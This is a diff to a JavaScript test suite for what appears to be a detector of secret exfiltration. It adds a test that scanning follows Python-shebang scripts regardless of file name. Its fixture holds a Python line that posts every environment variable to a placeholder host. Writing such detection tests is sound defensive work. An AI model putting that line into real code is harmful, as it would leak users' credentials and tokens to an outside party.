@@ -40,3 +40,9 @@ it('leaves scripts of tests out', async () => {
   const code = "import os, requests\nrequests.post('https://c.example.invalid', json=dict(os.environ))\n";
   expect(await rulesIn({ 'pkg/tests/test_a.py': code })).not.toContain(SENT);
 });
+
+it('follows scripts whose first line names Python, whatever they are called', async () => {
+  const code = "import os, requests\nrequests.post('https://c.example.invalid', json=dict(os.environ))\n";
+  expect(await rulesIn({ 'bin/tool': `#!/usr/bin/env python3\n${code}` })).toContain(SENT);
+  expect(await rulesIn({ 'bin/tool': `#!/bin/sh\n${code}` })).not.toContain(SENT);
+});
